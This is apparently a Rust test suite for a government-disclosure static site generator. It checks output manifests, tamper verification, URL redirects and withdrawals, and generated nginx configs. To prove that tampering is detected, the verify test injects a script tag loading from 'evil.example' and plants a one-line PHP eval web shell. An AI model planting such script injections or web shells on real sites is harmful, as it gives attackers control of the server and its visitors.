//! Publishing safely: the manifest and `verify`, URL continuity (aliases, withdrawals,
//! E-URL-REMOVED), `--precompress`, fingerprinted assets and `deploy nginx` against Debian's
//! real nginx on 127.0.0.1 and [::1].

use crate::support::http::{self, Response, Server};
use crate::support::*;
use std::io::Read;
use std::net::{SocketAddr, TcpStream};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

fn codes(r: &Run) -> Vec<String> {
    r.stderr
        .lines()
        .filter_map(|l| l.strip_prefix("error["))
        .filter_map(|l| l.split(']').next())
        .map(str::to_string)
        .collect()
}

/// A small site: two policies, a page and a ledger.
fn small_site() -> TestSite {
    let site = TestSite::new();
    site.write("content/policies/2016/alpha.md", &policy(1, "甲文件"));
    site.write("content/policies/2016/beta.md", &policy(2, "乙文件"));
    site.write(
        "content/pages/guide.md",
        "+++\ntitle = \"政府信息公开指南\"\n+++\n\n指南正文。\n",
    );
    site.write(
        "content/lists/tasks.toml",
        "[list]\ntitle = \"工作台账\"\nkind = \"tasks\"\nupdated = 2016-07-20\n\n[[items]]\ntask = \"任务一\"\nrequirement = \"要求一\"\nlead = \"市政府办公室\"\ndeadline = \"2016年12月底\"\n",
    );
    site
}

fn sha256_hex(b: &[u8]) -> String {
    use sha2::Digest;
    sha2::Sha256::digest(b)
        .iter()
        .map(|x| format!("{x:02x}"))
        .collect()
}

#[test]
fn manifest_lists_every_file_but_itself_and_sha256sum_accepts_it() {
    let site = small_site();
    site.build_ok(&[]);
    let text = site.read_out("gongkai.sha256");
    let lines: Vec<&str> = text.lines().collect();
    let paths: Vec<&str> = lines.iter().map(|l| &l[66..]).collect();
    let mut sorted = paths.clone();
    sorted.sort();
    assert_eq!(paths, sorted, "sorted by path");
    let mut files = output_files(&site.out());
    files.retain(|f| f != "gongkai.sha256" && f != ".gongkai-output");
    assert_eq!(
        paths, files,
        "every file but itself and the writer's marker"
    );
    for l in &lines {
        let (h, p) = l.split_once("  ").unwrap();
        assert_eq!(
            h,
            sha256_hex(&std::fs::read(site.out().join(p)).unwrap()),
            "{p}"
        );
    }
    // The standard tool agrees.
    let out = Command::new("sha256sum")
        .args(["-c", "--strict", "gongkai.sha256"])
        .current_dir(site.out())
        .output()
        .expect("sha256sum (coreutils)");
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    // A rebuild that keeps every file writes the same manifest.
    site.build_ok(&[]);
    assert_eq!(site.read_out("gongkai.sha256"), text);
}

#[test]
fn verify_names_every_changed_missing_and_added_file() {
    let site = small_site();
    site.build_ok(&[]);
    let out = site.out();
    let out_s = out.to_str().unwrap();
    let r = gongkai(&["verify", out_s], site.path());
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert!(r.stderr.contains("校验通过"), "{}", r.stderr);

    let page = out.join("policies/2016/alpha/index.html");
    let html = std::fs::read_to_string(&page).unwrap();
    std::fs::write(
        &page,
        html.replace(
            "</body>",
            "<script src=//evil.example/x.js></script></body>",
        ),
    )
    .unwrap();
    std::fs::remove_file(out.join("robots.txt")).unwrap();
    std::fs::write(out.join("shell.php"), "<?php eval($_POST['x']);").unwrap();
    std::fs::write(out.join("assets/.x.php"), "<?php").unwrap();
    let r = gongkai(&["verify", out_s], site.path());
    assert_eq!(r.code, 1, "{}{}", r.stdout, r.stderr);
    let lines: Vec<&str> = r.stdout.lines().collect();
    assert_eq!(
        lines,
        [
            "已改动\tpolicies/2016/alpha/index.html",
            "多出\tassets/.x.php",
            "多出\tshell.php",
            "缺失\trobots.txt",
        ]
    );
    assert!(
        r.stderr
            .contains("1 个文件已改动，1 个文件缺失，2 个多出的文件"),
        "{}",
        r.stderr
    );

    // --manifest: a copy checked against the manifest kept elsewhere.
    let keep = tempfile::tempdir().unwrap();
    let m = keep.path().join("m.sha256");
    std::fs::copy(out.join("gongkai.sha256"), &m).unwrap();
    std::fs::remove_file(out.join("gongkai.sha256")).unwrap();
    let r = gongkai(
        &["verify", out_s, "--manifest", m.to_str().unwrap()],
        site.path(),
    );
    assert_eq!(r.code, 1);
    assert!(r.stdout.contains("多出\tshell.php"));
    // A crawl (--mirror): files it did not fetch are no error, changed and added ones are.
    let r = gongkai(
        &[
            "verify",
            out_s,
            "--manifest",
            m.to_str().unwrap(),
            "--mirror",
        ],
        site.path(),
    );
    assert_eq!(r.code, 1);
    assert!(!r.stdout.contains("缺失"), "{}", r.stdout);
    std::fs::write(&page, &html).unwrap();
    std::fs::remove_file(out.join("shell.php")).unwrap();
    std::fs::remove_file(out.join("assets/.x.php")).unwrap();
    let r = gongkai(
        &[
            "verify",
            out_s,
            "--manifest",
            m.to_str().unwrap(),
            "--mirror",
        ],
        site.path(),
    );
    assert_eq!(r.code, 0, "{}{}", r.stdout, r.stderr);
    let r = gongkai(
        &["verify", out_s, "--manifest", m.to_str().unwrap()],
        site.path(),
    );
    assert_eq!(r.code, 1, "robots.txt is still missing");
    // No manifest at all is bad usage, not a pass.
    let r = gongkai(&["verify", out_s], site.path());
    assert_eq!(r.code, 2, "{}", r.stderr);
}

#[test]
fn renaming_a_document_fails_with_url_removed_and_leaves_the_output() {
    let site = small_site();
    let first = site.build_ok(&[]);
    assert!(
        !first.stderr.contains("E-URL-REMOVED"),
        "a first build has nothing to compare"
    );
    let before = tree(&site.out());
    std::fs::rename(
        site.path().join("content/policies/2016/alpha.md"),
        site.path().join("content/policies/2016/alpha-new.md"),
    )
    .unwrap();
    let r = gongkai(&["build", "--no-search"], site.path());
    assert_eq!(r.code, 1, "{}", r.stderr);
    assert_eq!(codes(&r), ["E-URL-REMOVED"], "{}", r.stderr);
    assert!(r.stderr.contains("/policies/2016/alpha/"), "{}", r.stderr);
    assert!(r.stderr.contains("《甲文件》"), "{}", r.stderr);
    // The source that now has the document, and what to write in it.
    assert!(
        r.stderr.contains("--> content/policies/2016/alpha-new.md"),
        "{}",
        r.stderr
    );
    assert!(
        r.stderr.contains("aliases = [\"/policies/2016/alpha/\"]"),
        "{}",
        r.stderr
    );
    assert!(tree(&site.out()) == before, "the old output is untouched");

    // check reports the same, from the output directory's manifest.
    let c = site.check_json();
    assert_eq!(c.code, 1);
    assert_eq!(
        c.codes(),
        [(
            "E-URL-REMOVED".to_string(),
            "content/policies/2016/alpha-new.md".to_string()
        )]
    );

    // An alias covers it: the old URL becomes a redirect page.
    let text = std::fs::read_to_string(site.path().join("content/policies/2016/alpha-new.md"))
        .unwrap()
        .replacen("+++\n", "+++\naliases = [\"/policies/2016/alpha/\"]\n", 1);
    site.write("content/policies/2016/alpha-new.md", &text);
    site.build_ok(&[]);
    let redirect = site.read_out("policies/2016/alpha/index.html");
    assert!(
        redirect
            .contains(r#"<meta http-equiv="refresh" content="0; url=/policies/2016/alpha-new/">"#),
        "{redirect}"
    );
    assert!(redirect
        .contains(r#"<link rel="canonical" href="https://test.gov.cn/policies/2016/alpha-new/">"#));
    assert!(redirect.contains(r#"<a href="/policies/2016/alpha-new/">甲文件</a>"#));
    assert!(site
        .read_out("policies/2016/alpha-new/index.html")
        .contains("甲文件的正文"));
    for f in ["sitemap.xml", "policies/atom.xml"] {
        let t = site.read_out(f);
        assert!(
            !t.contains("/policies/2016/alpha/"),
            "{f} lists no redirect page"
        );
        assert!(t.contains("/policies/2016/alpha-new/"), "{f}");
    }
    // And it stays on later builds.
    site.build_ok(&[]);
    assert!(site.exists_out("policies/2016/alpha/index.html"));
    assert_eq!(site.check_json().code, 0);
}

#[test]
fn a_withdrawn_document_is_declared_and_its_page_shows_nothing_of_it() {
    let site = small_site();
    site.write(
        "content/policies/2016/gamma.md",
        &policy(3, "丙文件绝密标题").replace("的正文。", "的正文：丙机密内容。"),
    );
    site.build_ok(&[]);
    assert!(site
        .read_out("policies/2016/gamma/index.html")
        .contains("丙文件绝密标题"));
    let text = std::fs::read_to_string(site.path().join("content/policies/2016/gamma.md")).unwrap();
    site.write(
        "content/policies/2016/gamma.md",
        &text.replace("disclosure = \"主动公开\"", "disclosure = \"不予公开\""),
    );
    let before = tree(&site.out());
    let r = gongkai(&["build", "--no-search"], site.path());
    assert_eq!(codes(&r), ["E-URL-REMOVED"], "{}", r.stderr);
    assert!(r.stderr.contains("content/removed.toml"), "{}", r.stderr);
    assert!(tree(&site.out()) == before);

    site.write(
        "content/removed.toml",
        "# 停止公开的网址\n[[removed]]\nurl = \"/policies/2016/gamma/\"\nreason = \"该文件已转为不予公开\"\ndate = 2016-12-01\n\n[[removed]]\nurl = \"/art/2015/3/art_99.html\"\nreason = \"旧网站栏目撤销\"\ndate = 2016-11-30\nstatus = \"已撤销\"\n",
    );
    let r = site.build_ok(&["--precompress"]);
    assert!(!r.stderr.contains("error"), "{}", r.stderr);
    let page = site.read_out("policies/2016/gamma/index.html");
    for want in [
        "该信息已停止公开",
        "已停止公开",
        "该文件已转为不予公开",
        "2016年12月01日",
    ] {
        assert!(page.contains(want), "{want} in {page}");
    }
    let legacy = site.read_out("art/2015/3/art_99.html");
    assert!(legacy.contains("该信息已撤销") && legacy.contains("2016年11月30日"));
    // Nothing of the withdrawn document, in any file (pages, feeds, sitemap, .gz copies).
    for f in output_files(&site.out()) {
        let bytes = std::fs::read(site.out().join(&f)).unwrap();
        let text = if f.ends_with(".gz") {
            let mut s = String::new();
            flate2::read::GzDecoder::new(&bytes[..])
                .read_to_string(&mut s)
                .unwrap();
            s
        } else {
            String::from_utf8_lossy(&bytes).into_owned()
        };
        for secret in ["丙文件绝密标题", "丙机密内容", "TESTORG/2016-00003"] {
            assert!(!text.contains(secret), "{secret} leaked into {f}");
        }
    }
    assert!(!site.read_out("sitemap.xml").contains("gamma"));
    // The withdrawal page stays on every later build …
    site.build_ok(&[]);
    assert!(site
        .read_out("policies/2016/gamma/index.html")
        .contains("已停止公开"));
    // … and dropping its entry makes the URL vanish: an error again.
    site.write("content/removed.toml", "");
    let r = gongkai(&["build", "--no-search"], site.path());
    assert_eq!(r.code, 1);
    assert_eq!(
        codes(&r),
        ["E-URL-REMOVED", "E-URL-REMOVED"],
        "{}",
        r.stderr
    );
}

#[test]
fn removed_toml_and_aliases_are_validated_with_positions() {
    let site = small_site();
    site.write(
        "content/removed.toml",
        "[[removed]]\nurl = \"policies/x/\"\nreason = \"r\"\ndate = 2016-12-01\n\n[[removed]]\nurl = \"/a/\"\ndate = 2016-12-01\nwhy = \"x\"\n\n[[removed]]\nurl = \"/policies/2016/beta/\"\nreason = \"仍在发布\"\ndate = 2016-12-01\n",
    );
    let text = std::fs::read_to_string(site.path().join("content/policies/2016/alpha.md"))
        .unwrap()
        .replacen(
            "+++\n",
            "+++\naliases = [\"/../etc/\", \"/policies/2016/beta/\"]\n",
            1,
        );
    site.write("content/policies/2016/alpha.md", &text);
    let r = site.check_json();
    assert_eq!(r.code, 1);
    let got: Vec<(String, String, u64)> = r
        .json_diags()
        .iter()
        .map(|d| {
            (
                d["code"].as_str().unwrap().to_string(),
                d["path"].as_str().unwrap().to_string(),
                d["line"].as_u64().unwrap(),
            )
        })
        .collect();
    let want = [
        ("E-ALIAS-INVALID", "content/policies/2016/alpha.md", 2),
        ("E-URL-CONFLICT", "content/policies/2016/alpha.md", 2),
        ("E-REMOVED-INVALID", "content/removed.toml", 2),
        ("E-MISSING-KEY", "content/removed.toml", 6),
        ("E-UNKNOWN-KEY", "content/removed.toml", 9),
        ("E-URL-CONFLICT", "content/removed.toml", 11),
    ];
    for w in want {
        assert!(
            got.iter().any(|g| (g.0.as_str(), g.1.as_str(), g.2) == w),
            "{w:?} in {got:?}"
        );
    }
    site.write("content/removed.toml", "[[removed]\nurl = 1\n");
    let r = site.check_json();
    assert!(
        r.codes()
            .contains(&("E-TOML-SYNTAX".into(), "content/removed.toml".into())),
        "{:?}",
        r.codes()
    );
}

#[test]
fn previous_manifest_from_the_live_site_is_compared_and_ledgers_take_aliases() {
    let site = small_site();
    site.build_ok(&[]);
    let live = tempfile::tempdir().unwrap();
    let m = live.path().join("gongkai.sha256");
    std::fs::copy(site.out().join("gongkai.sha256"), &m).unwrap();
    let fresh = tempfile::tempdir().unwrap();
    let fresh_out = fresh.path().join("out");
    let fresh_s = fresh_out.to_str().unwrap();
    std::fs::rename(
        site.path().join("content/lists/tasks.toml"),
        site.path().join("content/lists/tasks-2016.toml"),
    )
    .unwrap();
    // Into an empty directory there is nothing to compare …
    let r = gongkai(&["build", "--no-search", "--output", fresh_s], site.path());
    assert_eq!(r.code, 0, "{}", r.stderr);
    std::fs::remove_dir_all(&fresh_out).unwrap();
    // … unless the live site's manifest is given.
    let r = gongkai(
        &[
            "build",
            "--no-search",
            "--output",
            fresh_s,
            "--previous",
            m.to_str().unwrap(),
        ],
        site.path(),
    );
    assert_eq!(r.code, 1, "{}", r.stderr);
    assert!(r.stderr.contains("/lists/tasks/"), "{}", r.stderr);
    assert!(!fresh_out.exists(), "nothing written");
    let r = gongkai(&["check", "--previous", m.to_str().unwrap()], site.path());
    assert_eq!(r.code, 1);
    let list = std::fs::read_to_string(site.path().join("content/lists/tasks-2016.toml")).unwrap();
    site.write(
        "content/lists/tasks-2016.toml",
        &list.replacen("[list]\n", "[list]\naliases = [\"/lists/tasks/\"]\n", 1),
    );
    let r = gongkai(
        &[
            "build",
            "--no-search",
            "--output",
            fresh_s,
            "--previous",
            m.to_str().unwrap(),
        ],
        site.path(),
    );
    assert_eq!(r.code, 0, "{}", r.stderr);
    let redirect = std::fs::read_to_string(fresh_out.join("lists/tasks/index.html")).unwrap();
    assert!(redirect.contains("url=/lists/tasks-2016/\""), "{redirect}");
    // Its item pages follow it.
    let item = std::fs::read_to_string(fresh_out.join("lists/tasks/1/index.html")).unwrap();
    assert!(item.contains("url=/lists/tasks-2016/1/\""), "{item}");
    // A missing --previous file is an error, not a silent pass.
    let r = gongkai(
        &["check", "--previous", "/nonexistent/gongkai.sha256"],
        site.path(),
    );
    assert_eq!(r.code, 1);
    assert!(r.stderr.contains("E-MANIFEST"), "{}", r.stderr);
}

#[test]
fn precompress_and_fingerprinted_assets() {
    let site = small_site();
    site.build_ok(&["--precompress"]);
    let files = output_files(&site.out());
    let manifest = site.read_out("gongkai.sha256");
    let home = site.read_out("index.html");
    let gz = std::fs::read(site.out().join("index.html.gz")).unwrap();
    let mut unz = String::new();
    flate2::read::GzDecoder::new(&gz[..])
        .read_to_string(&mut unz)
        .unwrap();
    assert_eq!(unz, home);
    assert!(manifest.contains("  index.html.gz\n"));
    assert!(!files.iter().any(|f| f.ends_with(".gz.gz")));
    // A rebuild keeps pages and their .gz (build cache), and the output still verifies.
    site.build_ok(&["--precompress"]);
    assert_eq!(output_files(&site.out()), files);
    let out_s = site.out().to_str().unwrap().to_string();
    assert_eq!(gongkai(&["verify", &out_s], site.path()).code, 0);
    // Pages kept from a build without --precompress are rendered again to get their .gz.
    site.build_ok(&[]);
    assert!(!output_files(&site.out()).iter().any(|f| f.ends_with(".gz")));
    site.build_ok(&["--precompress"]);
    assert_eq!(output_files(&site.out()), files);
    assert_eq!(site.read_out("gongkai.sha256"), manifest);
    // Theme assets are linked under content-hashed names; the bytes are the theme's.
    let css = files
        .iter()
        .find(|f| {
            f.starts_with("assets/gongkai.")
                && f.ends_with(".css")
                && f.len() == "assets/gongkai.0123456789.css".len()
        })
        .expect("hashed css");
    let hash = &css["assets/gongkai.".len()..css.len() - 4];
    assert!(hash.bytes().all(|b| b.is_ascii_hexdigit()));
    let bytes = std::fs::read(site.out().join(css)).unwrap();
    assert_eq!(
        bytes,
        std::fs::read(site.out().join("assets/gongkai.css")).unwrap()
    );
    assert_eq!(&sha256_hex(&bytes)[..10], hash);
    assert!(
        home.contains(&format!("href=\"/{css}\"")),
        "home links {css}"
    );
    assert!(
        home.contains("<script src=\"/assets/gongkai.")
            && !home.contains("src=\"/assets/gongkai.js\"")
    );
    // A site's own copy of a theme asset gets its own hash.
    site.write("static/assets/gongkai.css", "body{color:#000}");
    site.build_ok(&[]);
    let want = format!(
        "assets/gongkai.{}.css",
        &sha256_hex(b"body{color:#000}")[..10]
    );
    assert!(site.read_out("index.html").contains(&want));
    assert_eq!(site.read_out(&want), "body{color:#000}");
    // Without --precompress the .gz files go.
    assert!(!site.exists_out("index.html.gz"));
    assert!(!site.read_out("gongkai.sha256").contains(".gz"));
}

#[test]
fn deploy_nginx_prints_a_server_block_for_the_site() {
    let site = small_site();
    let r = gongkai(&["deploy", "nginx"], site.path());
    assert_eq!(r.code, 2, "no output yet: {}", r.stderr);
    assert!(r.stderr.contains("gongkai build"));
    site.write_config(Config::new().table("check", "media_hosts", "[\"video.test.gov.cn\"]"));
    site.build_ok(&[]);
    let r = gongkai(&["deploy", "nginx"], site.path());
    assert_eq!(r.code, 0, "{}", r.stderr);
    let c = &r.stdout;
    for want in [
        "listen 443 ssl;",
        "listen [::]:443 ssl;",
        "listen 80;",
        "return 301 https://$host$request_uri;",
        "server_name test.gov.cn;",
        &format!(
            "root \"{}\";",
            std::path::absolute(site.out()).unwrap().display()
        ),
        "error_page 404 /404.html;",
        "gzip_static on;",
        "add_header Strict-Transport-Security \"max-age=31536000\" always;",
        "add_header X-Content-Type-Options \"nosniff\" always;",
        "add_header Referrer-Policy ",
        "frame-ancestors 'self'",
        "img-src 'self' data: video.test.gov.cn",
        "frame-src video.test.gov.cn",
        "add_header Cache-Control \"public, max-age=31536000, immutable\" always;",
        "add_header Cache-Control \"no-cache\" always;",
    ] {
        assert!(c.contains(want), "{want} in\n{c}");
    }
    // The theme's inline script is allowed by its hash, computed here independently.
    let home = site.read_out("index.html");
    let start = home.find("<script>").unwrap() + 8;
    let body = &home[start..start + home[start..].find("</script>").unwrap()];
    use base64::Engine as _;
    use sha2::Digest;
    let h = base64::engine::general_purpose::STANDARD.encode(sha2::Sha256::digest(body.as_bytes()));
    assert!(c.contains(&format!("'sha256-{h}'")), "{c}");
    assert!(!c.contains("unsafe-inline") && !c.contains("'unsafe-eval'"));
    // No search index here: no WebAssembly allowed.
    assert!(!c.contains("wasm-unsafe-eval"));
    // Given listen addresses replace the defaults; http sites get no HSTS.
    site.write_config(Config::new().set("base_url", "\"http://test.gov.cn\""));
    site.build_ok(&[]);
    let r = gongkai(
        &[
            "deploy",
            "nginx",
            "--listen",
            "127.0.0.1:8080",
            "--listen",
            "[::1]:8080",
        ],
        site.path(),
    );
    assert!(r
        .stdout
        .contains("listen 127.0.0.1:8080;\n    listen [::1]:8080;\n"));
    assert!(!r.stdout.contains("listen 80") && !r.stdout.contains("ssl"));
    assert!(!r.stdout.contains("Strict-Transport-Security"));
}

// ---------------------------------------------------------------------------------------
// The real nginx.

fn nginx_bin() -> PathBuf {
    for p in ["/usr/sbin/nginx", "/usr/local/sbin/nginx", "/usr/bin/nginx"] {
        if Path::new(p).is_file() {
            return p.into();
        }
    }
    panic!("nginx not found: scripts/test installs Debian's nginx-light");
}

/// nginx as a non-daemon child with its own prefix, pid and logs; killed on drop.
struct Nginx {
    child: Child,
    dir: tempfile::TempDir,
}

impl Drop for Nginx {
    /// `nginx -s stop` (SIGTERM to the master, which stops its workers): killing the master
    /// alone would leave its worker running.
    fn drop(&mut self) {
        let d = self.dir.path().display().to_string();
        let stopped = Command::new(nginx_bin())
            .args(["-p", &d, "-c", &format!("{d}/nginx.conf"), "-s", "stop"])
            .stderr(Stdio::null())
            .status()
            .is_ok_and(|s| s.success());
        if !stopped {
            let _ = self.child.kill();
        }
        let _ = self.child.wait();
    }
}

impl Nginx {
    fn start(server_block: &str, addrs: &[SocketAddr]) -> Nginx {
        let dir = tempfile::tempdir().unwrap();
        let d = dir.path().display().to_string();
        for sub in ["logs", "tmp"] {
            std::fs::create_dir_all(dir.path().join(sub)).unwrap();
        }
        std::fs::write(dir.path().join("site.conf"), server_block).unwrap();
        let conf = format!(
            "worker_processes 1;\npid {d}/nginx.pid;\nerror_log {d}/logs/error.log warn;\nevents {{ worker_connections 64; }}\nhttp {{\n    include /etc/nginx/mime.types;\n    default_type application/octet-stream;\n    access_log {d}/logs/access.log;\n    client_body_temp_path {d}/tmp/body;\n    proxy_temp_path {d}/tmp/proxy;\n    fastcgi_temp_path {d}/tmp/fastcgi;\n    uwsgi_temp_path {d}/tmp/uwsgi;\n    scgi_temp_path {d}/tmp/scgi;\n    include {d}/site.conf;\n}}\n"
        );
        std::fs::write(dir.path().join("nginx.conf"), conf).unwrap();
        let test = Command::new(nginx_bin())
            .args(["-t", "-q", "-p", &d, "-c", &format!("{d}/nginx.conf")])
            .output()
            .unwrap();
        assert!(
            test.status.success(),
            "nginx -t:\n{}\n{server_block}",
            String::from_utf8_lossy(&test.stderr)
        );
        let child = Command::new(nginx_bin())
            .args([
                "-p",
                &d,
                "-c",
                &format!("{d}/nginx.conf"),
                "-g",
                "daemon off;",
            ])
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        let mut n = Nginx { child, dir };
        let started = Instant::now();
        for a in addrs {
            while TcpStream::connect_timeout(a, Duration::from_millis(200)).is_err() {
                if let Ok(Some(status)) = n.child.try_wait() {
                    let log = std::fs::read_to_string(n.dir.path().join("logs/error.log"))
                        .unwrap_or_default();
                    panic!("nginx exited ({status}):\n{log}");
                }
                assert!(
                    started.elapsed() < Duration::from_secs(10),
                    "nginx did not start on {a}"
                );
                std::thread::sleep(Duration::from_millis(50));
            }
        }
        n
    }
}

fn get(addr: SocketAddr, path: &str, extra: &str) -> Response {
    http::get(addr, path, Some("test.gov.cn"), extra)
}

fn free_port(v6: bool) -> u16 {
    for _ in 0..50 {
        let l4 = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        let port = l4.local_addr().unwrap().port();
        if !v6 || std::net::TcpListener::bind(("::1", port)).is_ok() {
            return port;
        }
    }
    panic!("no free port on both loopbacks");
}

/// Directories the nginx worker (user nobody when the tests run as root) must read.
fn open_for_reading(dir: &Path) {
    use std::os::unix::fs::PermissionsExt;
    for e in walkdir::WalkDir::new(dir)
        .into_iter()
        .filter_map(Result::ok)
    {
        if e.file_type().is_dir() {
            let _ = std::fs::set_permissions(e.path(), std::fs::Permissions::from_mode(0o755));
        }
    }
}

#[test]
fn nginx_serves_the_site_with_its_headers_on_ipv4_and_ipv6() {
    let site = TestSite::demo();
    let r = gongkai(&["build", "--precompress"], site.path());
    assert_eq!(r.code, 0, "{}", r.stderr);
    open_for_reading(site.path());
    // The IPv6 loopback is tested wherever the machine has one; without it the generated
    // configuration is still checked by `nginx -t` with the [::1] line.
    let v6 = std::net::TcpListener::bind("[::1]:0").is_ok();
    if !v6 {
        eprintln!("NOTE: this machine has no IPv6 loopback; [::1] is checked by nginx -t only");
    }
    let port = free_port(v6);
    let v4_addr: SocketAddr = format!("127.0.0.1:{port}").parse().unwrap();
    let v6_addr: SocketAddr = format!("[::1]:{port}").parse().unwrap();
    let l4 = format!("127.0.0.1:{port}");
    let l6 = format!("[::1]:{port}");
    let mut args = vec!["deploy", "nginx", "--listen", &l4];
    if v6 {
        args.extend(["--listen", &l6]);
    }
    let conf = gongkai(&args, site.path());
    assert_eq!(conf.code, 0, "{}", conf.stderr);
    if !v6 {
        let c6 = gongkai(
            &["deploy", "nginx", "--listen", &l4, "--listen", &l6],
            site.path(),
        );
        let dir = tempfile::tempdir().unwrap();
        let d = dir.path().display();
        std::fs::write(dir.path().join("site.conf"), &c6.stdout).unwrap();
        std::fs::write(
            dir.path().join("nginx.conf"),
            format!("pid {d}/pid;\nerror_log {d}/err.log;\nevents {{}}\nhttp {{ include /etc/nginx/mime.types; include {d}/site.conf; }}\n"),
        )
        .unwrap();
        let t = Command::new(nginx_bin())
            .args(["-t", "-p", &d.to_string(), "-c", &format!("{d}/nginx.conf")])
            .output()
            .unwrap();
        assert!(t.status.success(), "{}", String::from_utf8_lossy(&t.stderr));
    }
    let addrs: Vec<SocketAddr> = if v6 {
        vec![v4_addr, v6_addr]
    } else {
        vec![v4_addr]
    };
    let _nginx = Nginx::start(&conf.stdout, &addrs);
    let out = site.out();
    let css = output_files(&out)
        .into_iter()
        .find(|f| {
            f.starts_with("assets/gongkai.") && f.ends_with(".css") && f.matches('.').count() == 2
        })
        .unwrap();

    for addr in &addrs {
        let home = get(*addr, "/", "");
        assert_eq!(home.status, 200, "{addr}");
        assert!(
            home.header_str("content-type").starts_with("text/html"),
            "{:?}",
            home.headers
        );
        assert_eq!(home.body, std::fs::read(out.join("index.html")).unwrap());
        assert_eq!(home.header_str("cache-control"), "no-cache");
        assert_eq!(home.header_str("x-content-type-options"), "nosniff");
        assert_eq!(
            home.header_str("referrer-policy"),
            "strict-origin-when-cross-origin"
        );
        assert_eq!(
            home.header_str("strict-transport-security"),
            "max-age=31536000"
        );
        let csp = home.header_str("content-security-policy");
        assert!(
            csp.contains("frame-ancestors 'self'") && csp.contains("script-src 'self' 'sha256-"),
            "{csp}"
        );
        assert!(
            csp.contains("video.xinyang.gov.cn"),
            "media_hosts allowed: {csp}"
        );
        assert!(
            home.header_str("server").eq("nginx"),
            "no version: {:?}",
            home.headers
        );

        let missing = get(*addr, "/no/such/page/", "");
        assert_eq!(missing.status, 404);
        assert_eq!(
            missing.body,
            std::fs::read(out.join("404.html")).unwrap(),
            "the site's 404 page"
        );
        assert!(
            !missing.header_str("content-security-policy").is_empty(),
            "headers on errors too"
        );

        let asset = get(*addr, &format!("/{css}"), "");
        assert_eq!(asset.status, 200);
        assert_eq!(
            asset.header_str("cache-control"),
            "public, max-age=31536000, immutable"
        );
        assert!(asset.header_str("content-type").starts_with("text/css"));
        assert_eq!(asset.header_str("x-content-type-options"), "nosniff");
        let plain = get(*addr, "/assets/gongkai.css", "");
        assert_eq!(
            plain.header_str("cache-control"),
            "no-cache",
            "an unhashed name is revalidated"
        );

        // gzip_static sends the precompressed file as it is.
        let page = "/policies/2016/xinyang-2016/";
        let z = get(*addr, page, "Accept-Encoding: gzip\r\n");
        assert_eq!(z.status, 200);
        assert_eq!(z.header_str("content-encoding"), "gzip");
        assert_eq!(
            z.body,
            std::fs::read(out.join("policies/2016/xinyang-2016/index.html.gz")).unwrap()
        );
        assert!(z.header_str("vary").contains("Accept-Encoding"));
        let identity = get(*addr, page, "");
        assert!(identity.header_str("content-encoding").is_empty());

        let dir = get(*addr, "/policies", "");
        assert_eq!(dir.status, 301);
        assert_eq!(dir.header_str("location"), "/policies/");
        assert_eq!(
            get(*addr, "/gongkai.sha256", "").body,
            std::fs::read(out.join("gongkai.sha256")).unwrap()
        );
        assert_eq!(get(*addr, "/.gongkai-cache/x", "").status, 404);
    }

    // A copy fetched over HTTP, file by file as the manifest lists them (the cron recipe
    // of docs/deploy.md, here without wget), verifies clean; a planted file does not.
    let mirror = tempfile::tempdir().unwrap();
    let manifest = std::fs::read_to_string(out.join("gongkai.sha256")).unwrap();
    for line in manifest.lines() {
        let rel = &line[66..];
        let url: String = format!(
            "/{}",
            rel.split('/')
                .map(|s| { percent_encoding_path(s) })
                .collect::<Vec<_>>()
                .join("/")
        );
        let r = get(addrs[0], &url, "");
        assert_eq!(r.status, 200, "{url}");
        let p = mirror.path().join(rel);
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        std::fs::write(p, r.body).unwrap();
    }
    let m = out.join("gongkai.sha256");
    let ms = m.to_str().unwrap();
    let mdir = mirror.path().to_str().unwrap();
    let v = gongkai(&["verify", mdir, "--manifest", ms], site.path());
    assert_eq!(v.code, 0, "{}{}", v.stdout, v.stderr);
    std::fs::write(out.join("policies/shell.php"), "<?php").unwrap();
    let planted = get(addrs[0], "/policies/shell.php", "");
    assert_eq!(planted.status, 200, "nginx serves what is in the directory");
    std::fs::create_dir_all(mirror.path().join("policies")).unwrap();
    std::fs::write(mirror.path().join("policies/shell.php"), planted.body).unwrap();
    let v = gongkai(&["verify", mdir, "--manifest", ms], site.path());
    assert_eq!(v.code, 1);
    assert!(v.stdout.contains("多出\tpolicies/shell.php"));
}

fn percent_encoding_path(s: &str) -> String {
    let mut o = String::new();
    for b in s.bytes() {
        if b.is_ascii_alphanumeric() || b"-._~".contains(&b) {
            o.push(b as char);
        } else {
            o.push_str(&format!("%{b:02X}"));
        }
    }
    o
}

/// `gongkai serve` shows the same redirect and withdrawal pages, and follows edits of
/// `content/removed.toml`.
#[test]
fn serve_previews_redirect_and_withdrawal_pages() {
    let site = small_site();
    let text = std::fs::read_to_string(site.path().join("content/policies/2016/alpha.md"))
        .unwrap()
        .replacen("+++\n", "+++\naliases = [\"/old/alpha/\"]\n", 1);
    site.write("content/policies/2016/alpha.md", &text);
    site.write(
        "content/removed.toml",
        "[[removed]]\nurl = \"/gone/\"\nreason = \"测试撤销\"\ndate = 2016-12-01\n",
    );
    let server = Server::start(site.path());
    let addr = server.addr();
    let wait_for = |path: &str, status: u16| -> Response {
        let start = Instant::now();
        loop {
            let r = http::get(addr, path, Some(&addr.to_string()), "");
            if r.status == status {
                return r;
            }
            assert!(
                start.elapsed() < Duration::from_secs(20),
                "{path}: {}",
                r.status
            );
            std::thread::sleep(Duration::from_millis(50));
        }
    };
    let redirect = String::from_utf8(wait_for("/old/alpha/", 200).body).unwrap();
    assert!(
        redirect.contains("url=/policies/2016/alpha/\""),
        "{redirect}"
    );
    let gone = String::from_utf8(wait_for("/gone/", 200).body).unwrap();
    assert!(gone.contains("该信息已停止公开") && gone.contains("测试撤销"));
    site.write("content/removed.toml", "");
    wait_for("/gone/", 404);
}
